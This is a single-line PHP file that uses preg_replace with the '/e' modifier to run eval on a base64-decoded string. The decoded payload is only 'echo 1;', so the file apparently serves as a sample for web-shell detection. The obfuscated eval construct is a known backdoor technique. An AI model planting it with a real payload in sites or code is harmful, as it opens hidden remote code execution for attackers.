<?php preg_replace('/x/e', 'eval(base64_decode("ZWNobyAxOw=="))', 'x');
